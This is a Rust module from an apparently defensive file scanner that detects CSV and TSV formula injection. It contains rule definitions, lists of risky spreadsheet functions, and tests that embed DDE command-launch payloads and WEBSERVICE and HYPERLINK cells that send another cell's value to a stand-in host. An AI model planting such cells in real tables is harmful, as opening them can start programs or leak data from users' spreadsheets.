//! Tables in text: values between commas, semicolons or tabs, one record a line.
//!
//! Specification: RFC 4180; the media type text/tab-separated-values.
//!
//! ```text
//! record = cell ( separator cell )* line end
//! cell   = text without separator | " text with "" for a quotation mark "
//! ```
//! A table cannot run anything, but a spreadsheet that opens it takes a cell that starts with `=`, `+`, `-` or `@` for a
//! formula. A cell is judged as the formula that it is, by its parts: numbers, names and words after such a sign are
//! just values. The text itself is read by the reader of plain text.

use std::ops::Range;

use crate::{
    bytes::Cursor,
    format::{Buried, Candidate, Format, Nature, Visit},
    formats::text::is_text,
    quote::quoted,
    reference::{Reach, classify},
    rule::{Guideline, Rule, Runs, Severity},
    stop::Stop,
};

/// Comma-separated values and their relatives.
pub static FORMAT: Format = Format {
    id: "csv",
    name: "a table in text (CSV, TSV)",
    spec: "https://www.rfc-editor.org/rfc/rfc4180",
    extensions: EXTENSIONS,
    media_types: &["text/csv", "text/tab-separated-values"],
    marks: &[],
    confirm,
    read,
    buried: Buried::No,
    nature: Nature::Text,
    within: None,
    rules: &[&FORMULA, &FORMULA_CONNECTS, &FORMULA_LINK, &FORMULA_STARTS_PROGRAM],
};

const EXTENSIONS: &[&str] = &["csv", "tsv", "tab"];

/// A formula that starts another program.
static FORMULA_STARTS_PROGRAM: Rule = Rule {
    id: "formula-starts-program",
    title: "A cell of this table starts a program when a spreadsheet opens it",
    why: "The cell is a formula for Dynamic Data Exchange: the spreadsheet starts the program that it names. Some ask \
          first, in words that few people understand.",
    advice: "Do not open it in a spreadsheet. Read it as text, or remove the cell.",
    guideline: Guideline::Code,
    runs: Runs::OnOpen,
    severity: Severity::Danger,
    see: &["https://owasp.org/www-community/attacks/CSV_Injection", "https://attack.mitre.org/techniques/T1559/002/"],
};

/// A formula that fetches something.
static FORMULA_CONNECTS: Rule = Rule {
    id: "formula-connects",
    title: "A cell of this table contacts a server when a spreadsheet opens it",
    why: "The cell is a formula that fetches something from an address, and may send what stands in other cells.",
    advice: "Open it in a spreadsheet only with automatic updates switched off, or remove the cell.",
    guideline: Guideline::Reporting,
    runs: Runs::OnOpen,
    severity: Severity::Warning,
    see: &["https://owasp.org/www-community/attacks/CSV_Injection"],
};

/// A formula that shows a link.
static FORMULA_LINK: Rule = Rule {
    id: "formula-link",
    title: "A cell of this table is a link that says something else than where it leads",
    why: "The cell is a formula that shows one text and leads to an address when it is clicked; the address may carry \
          what stands in other cells.",
    advice: "Look at the address before you click.",
    guideline: Guideline::Reporting,
    runs: Runs::OnUse,
    severity: Severity::Warning,
    see: &["https://owasp.org/www-community/attacks/CSV_Injection"],
};

/// Any other formula.
static FORMULA: Rule = Rule {
    id: "formula",
    title: "Cells of this table are formulas",
    why: "A spreadsheet that opens the table computes them. They neither start nor fetch anything.",
    advice: "Nothing to do. A table of plain values has none.",
    guideline: Guideline::Code,
    runs: Runs::OnUse,
    severity: Severity::Note,
    see: &["https://owasp.org/www-community/attacks/CSV_Injection"],
};

/// How much is looked at to recognise a table, in bytes.
const LOOK: usize = 16 << 10;

fn confirm(candidate: &Candidate<'_>) -> Result<bool, Stop> {
    if !is_text(candidate)? {
        return Ok(false);
    }
    if candidate.is_named(EXTENSIONS) {
        return Ok(true);
    }
    let head = candidate.head(LOOK)?;
    let whole = (head.len() as u64) == candidate.bytes.len();
    Ok(SEPARATORS.iter().any(|separator| is_regular(&head, whole, *separator)))
}

const SEPARATORS: &[u8] = b",;\t";

/// Whether at least three lines have the same number of cells, more than one, and no line has another.
fn is_regular(head: &[u8], whole: bool, separator: u8) -> bool {
    let mut lines: Vec<&[u8]> = head.split(|byte| *byte == b'\n').collect();
    if !whole || lines.last().is_some_and(|line| line.is_empty()) {
        lines.pop();
    }
    let cells = |line: &[u8]| {
        let mut quoted = false;
        let separates = |byte: &&u8| {
            quoted ^= **byte == b'"';
            **byte == separator && !quoted
        };
        line.iter().filter(separates).count()
    };
    let first = lines.first().map_or(0, |line| cells(line));
    first > 0 && lines.len() > 2 && lines.iter().all(|line| cells(line) == first)
}

fn read(visit: &mut Visit<'_>) -> Result<(), Stop> {
    let mut cells = Cells::new(visit.bytes.cursor(), visit.name);
    let mut plain: Option<(Range<u64>, String)> = None;
    let mut count = 0u64;
    while let Some((range, cell)) = cells.next()? {
        let Some(formula) = Formula::of(&cell) else { continue };
        let shown = quoted(&cell);
        match formula {
            Formula::StartsProgram => visit.find(&FORMULA_STARTS_PROGRAM, range, format!("The cell {shown}."))?,
            Formula::Connects => visit.find(&FORMULA_CONNECTS, range, format!("The cell {shown}."))?,
            Formula::Link => visit.find(&FORMULA_LINK, range, format!("The cell {shown}."))?,
            Formula::Other => {
                count = count.saturating_add(1);
                plain.get_or_insert((range, shown));
            }
        }
    }
    if let Some((range, shown)) = plain {
        let message =
            if count == 1 { format!("The cell {shown}.") } else { format!("{count} cells; the first is {shown}.") };
        visit.find(&FORMULA, range, message)?;
    }
    Ok(())
}

/// Walks over the cells that start like a formula.
struct Cells {
    cursor: Cursor,
    separators: &'static [u8],
}

/// Bytes kept of a cell: the longest formula that a spreadsheet takes has 8192 characters.
const KEPT: usize = 8 << 10;

/// Bytes looked at together.
const WINDOW: usize = 8 << 10;

impl Cells {
    /// Which separator counts depends on the region that the spreadsheet is set to, so every one does.
    fn new(cursor: Cursor, name: &str) -> Self {
        let tabs = crate::format::has_extension(name, &["tsv", "tab"]);
        Cells { cursor, separators: if tabs { b"\t" } else { SEPARATORS } }
    }

    /// The next cell that starts like a formula, with its place.
    fn next(&mut self) -> Result<Option<(Range<u64>, String)>, Stop> {
        while !self.cursor.is_empty() {
            self.skip(|byte| matches!(byte, b' ' | b'\t' | b'\r' | b'\n' | 0xef | 0xbb | 0xbf))?;
            let quoted = self.cursor.peek(1)? == b"\"";
            if quoted {
                self.cursor.seek(self.cursor.at().saturating_add(1));
                self.skip(|byte| matches!(byte, b' ' | b'\t' | b'\r' | b'\n'))?;
            }
            let start = self.cursor.at();
            let formula = matches!(self.cursor.peek(1)?.first(), Some(b'=' | b'+' | b'-' | b'@'));
            let cell = self.cell(quoted, formula)?;
            if formula {
                return Ok(Some((start..self.cursor.at(), String::from_utf8_lossy(&cell).into_owned())));
            }
        }
        Ok(None)
    }

    fn skip(&mut self, passed: impl Fn(u8) -> bool) -> Result<(), Stop> {
        loop {
            let look = self.cursor.peek(64)?;
            let count = look.iter().take_while(|byte| passed(**byte)).count();
            let more = count > 0 && count == look.len();
            self.cursor.seek(self.cursor.at().saturating_add(count as u64));
            if !more {
                return Ok(());
            }
        }
    }

    /// The rest of the cell, going on behind the separator or the end of the line.
    fn cell(&mut self, quoted: bool, keep: bool) -> Result<Vec<u8>, Stop> {
        let mut cell = Vec::new();
        let mut quoted = quoted;
        // Inside a formula, separators stand between arguments: those in brackets or in texts do not end it.
        let mut depth = 0usize;
        let mut text = false;
        let mut path = false;
        let mut before = b' ';
        loop {
            let at = self.cursor.at();
            let look = self.cursor.peek(WINDOW)?;
            if look.is_empty() {
                return Ok(cell);
            }
            let mut taken = 0usize;
            let mut ended = false;
            while let Some(byte) = look.get(taken).copied() {
                taken = taken.saturating_add(1);
                if quoted && byte == b'"' {
                    match look.get(taken) {
                        Some(b'"') => taken = taken.saturating_add(1),
                        // At the end of the window: look again from here, where there is more.
                        None if look.len() == WINDOW && taken > 1 => {
                            taken = taken.saturating_sub(1);
                            break;
                        }
                        _ => {
                            quoted = false;
                            continue;
                        }
                    }
                } else if !quoted
                    && (byte == b'\n' || (self.separators.contains(&byte) && depth == 0 && !text && !path))
                {
                    ended = true;
                    break;
                }
                if keep {
                    match byte {
                        b'"' if !path => text = !text,
                        // An apostrophe in a word is none that encloses a path.
                        b'\'' if !text && (path || !before.is_ascii_alphanumeric()) => path = !path,
                        b'(' if !text && !path => depth = depth.saturating_add(1),
                        b')' if !text && !path => depth = depth.saturating_sub(1),
                        _ => {}
                    }
                    before = byte;
                    if cell.len() < KEPT {
                        cell.push(byte);
                    }
                }
            }
            self.cursor.seek(at.saturating_add(taken as u64));
            if ended {
                return Ok(cell);
            }
        }
    }
}

/// What a formula does.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
enum Formula {
    StartsProgram,
    Connects,
    Link,
    Other,
}

/// Whether the text of a cell is a formula that starts a program or fetches something.
pub(crate) fn reaches_out(cell: &str) -> bool {
    matches!(Formula::of(cell), Some(Formula::StartsProgram | Formula::Connects))
}

/// Functions that start something: Dynamic Data Exchange, and the calls of old macro sheets.
const STARTS: &[&str] = &["CALL", "DDE", "EXEC", "REGISTER", "REGISTER.ID"];

/// Functions that fetch something.
const CONNECTS: &[&str] = &[
    "IMAGE",
    "IMPORTDATA",
    "IMPORTFEED",
    "IMPORTHTML",
    "IMPORTRANGE",
    "IMPORTXML",
    "RTD",
    "STOCKHISTORY",
    "WEBSERVICE",
];

impl Formula {
    /// What the cell does as a formula; `None` for a plain value.
    fn of(cell: &str) -> Option<Self> {
        let cell = cell.trim();
        let signed = !cell.starts_with('=');
        let mut worst: Option<Formula> = None;
        let mut add = |found: Formula| {
            let weight = |formula: &Formula| match formula {
                Formula::StartsProgram => 0,
                Formula::Connects => 1,
                Formula::Link => 2,
                Formula::Other => 3,
            };
            if worst.as_ref().is_none_or(|worst| weight(&found) < weight(worst)) {
                worst = Some(found);
            }
        };
        let tokens = tokens(cell);
        for (index, token) in tokens.iter().enumerate() {
            let next = |skip: usize| tokens.get(index.saturating_add(skip));
            let is = |skip: usize, sign: char| next(skip) == Some(&Token::Sign(sign));
            match token {
                // service|topic!item
                Token::Name(_) | Token::Path(_)
                    if is(1, '|') && matches!(next(2), Some(Token::Name(_) | Token::Path(_))) && is(3, '!') =>
                {
                    add(Formula::StartsProgram);
                }
                Token::Name(name) if is(1, '(') => {
                    let name = name.to_ascii_uppercase();
                    let name = name.strip_prefix("_XLFN.").unwrap_or(&name);
                    let argument = |token: Option<&Token<'_>>| match token {
                        Some(Token::Text(text)) => Some(classify(text).reach),
                        _ => None,
                    };
                    if STARTS.contains(&name) {
                        add(Formula::StartsProgram);
                    } else if CONNECTS.contains(&name) {
                        add(Formula::Connects);
                    } else if name == "HYPERLINK" && argument(next(2)) != Some(Reach::SameFile) {
                        add(Formula::Link);
                    }
                }
                // 'path[book]sheet'!cell
                Token::Path(path) if is(1, '!') && classify(path).leaves_folder() => add(Formula::Connects),
                _ => {}
            }
        }
        if !signed && cell.len() > 1 && !cell.trim_start_matches('=').trim().is_empty() {
            add(Formula::Other);
        }
        worst
    }
}

/// A part of a formula.
#[derive(Clone, Debug, Eq, PartialEq)]
enum Token<'a> {
    /// A name or a number.
    Name(&'a str),
    /// `"text"`
    Text(&'a str),
    /// `'text'`: the name of a sheet, with or without its file.
    Path(&'a str),
    /// Any other character.
    Sign(char),
}

fn tokens(formula: &str) -> Vec<Token<'_>> {
    let mut tokens = Vec::new();
    let mut rest = formula;
    while let Some(first) = rest.chars().next() {
        let behind = rest.get(first.len_utf8()..).unwrap_or_default();
        if first.is_whitespace() {
            rest = behind;
        } else if first == '"' || first == '\'' {
            // Inside a quoted cell a quotation mark is written twice; it was made one before.
            let (text, after) = behind.split_once(first).unwrap_or((behind, ""));
            tokens.push(if first == '"' { Token::Text(text) } else { Token::Path(text) });
            rest = after;
        } else if is_name(first) {
            let after = rest.trim_start_matches(is_name);
            tokens.push(Token::Name(rest.strip_suffix(after).unwrap_or(rest)));
            rest = after;
        } else {
            tokens.push(Token::Sign(first));
            rest = behind;
        }
    }
    tokens
}

fn is_name(letter: char) -> bool {
    letter.is_alphanumeric() || matches!(letter, '_' | '.' | '$' | '\\')
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        check::tests::{checked, rules_of, told},
        report::Verdict,
    };

    #[test]
    fn tables_are_just_data() {
        for sample in [
            "id,value,note\n1,-2.5,+1\n2,-1e-3,=\n3,-,@handle\n",
            "participant_id\tage\nsub-01\tn/a\nsub-02\t-3\n",
            "a;b;c\n\"x, y\";\"=\";-\"quoted\"\n",
            "phone,mail\n+49 30 1234,@a@b.c\n-foo(bar),- item (x)\n",
            "formula,name\n-5|a,+x!\n@a|b,-CO2\n",
        ] {
            let report = checked("x.csv", sample);
            assert_eq!(report.verdict, Verdict::JustData, "{sample} {report:#?}");
            assert!(report.layers[0].formats.contains(&"csv".to_string()));
        }
        let sum = checked("x.csv", "a,b\n1,=SUM(A1:A2)\n2,\"=A1+B1\"\n");
        assert_eq!((sum.verdict, sum.findings.len()), (Verdict::JustData, 1));
    }

    #[test]
    fn formulas_that_start_programs_are_found() {
        for cell in [
            "=cmd|'/C calc'!A0",
            "=2+5+cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!'A1'",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=  cmd |'/c x'!A1",
            "\"=cmd|'/C calc'!A0\"",
            "\"\t=cmd|'/C calc'!A0\"",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "\"=DDE(\"\"cmd\"\",\"\"/C calc\"\",\"\"x\"\")\"",
            "=rundll32|'URL.dll,OpenURL calc.exe'!A",
            "=IF(1,cmd|'/c x'!A0)",
        ] {
            for sample in [format!("a,b\n1,{cell}\n2,3\n"), format!("{cell}\n"), format!("a;b\n{cell};1")] {
                assert_eq!(rules_of(&checked("x.csv", sample.as_str())), ["formula-starts-program"], "{sample}");
            }
        }
    }

    #[test]
    fn formulas_that_connect_and_links_are_found() {
        for (cell, rule) in [
            ("=WEBSERVICE(\"http://h/\"&A1)", "formula-connects"),
            ("=IMPORTXML(CONCAT(\"http://h/\",A1),\"//a\")", "formula-connects"),
            ("='\\\\h\\share\\[b.xlsx]s'!A1", "formula-connects"),
            ("=HYPERLINK(\"http://h/?\"&A1,\"Click\")", "formula-link"),
            ("+HYPERLINK(\"http://h/\")", "formula-link"),
        ] {
            assert_eq!(rules_of(&checked("x.csv", format!("a\tb\n1\t{cell}\n"))), [rule], "{cell}");
        }
    }

    #[test]
    fn tables_are_known_by_their_columns_too() {
        let report = checked("x", "a,b\n1,2\n=cmd|'/c x'!A0,4\n");
        assert_eq!(rules_of(&report), ["formula-starts-program"]);
        assert!(
            !checked("x", "Dear all,\nthis is a letter and, well, not a table.\nYours\n").layers[0]
                .formats
                .contains(&"csv".into())
        );
    }

    #[test]
    fn cells_are_found_across_windows() {
        for pad in WINDOW - 6..WINDOW + 3 {
            let sample = format!("\"{}\",\"=cmd|'/c \"\"x\"\"'!A0\"\n", "y".repeat(pad));
            assert_eq!(rules_of(&checked("x.csv", sample)), ["formula-starts-program"], "{pad}");
        }
    }

    #[test]
    fn bytes_behind_the_table_are_not_read() {
        let mut bytes = b"a,b\n1,2\n".repeat(10_000);
        bytes.extend([0, 1, 2, 3]);
        assert_eq!(checked("x.csv", bytes).verdict, Verdict::Unfinished);
    }

    #[test]
    fn bid_01_cells_that_run() {
        let table = |cell: &str| format!("participant_id\tage\tnote\nsub-01\t-5\t{cell}\nsub-02\t+3\tn/a\n");
        told("participants.tsv", table("=cmd|'/C calc'!A0"), "formula-starts-program", table("n/a"));
    }
}
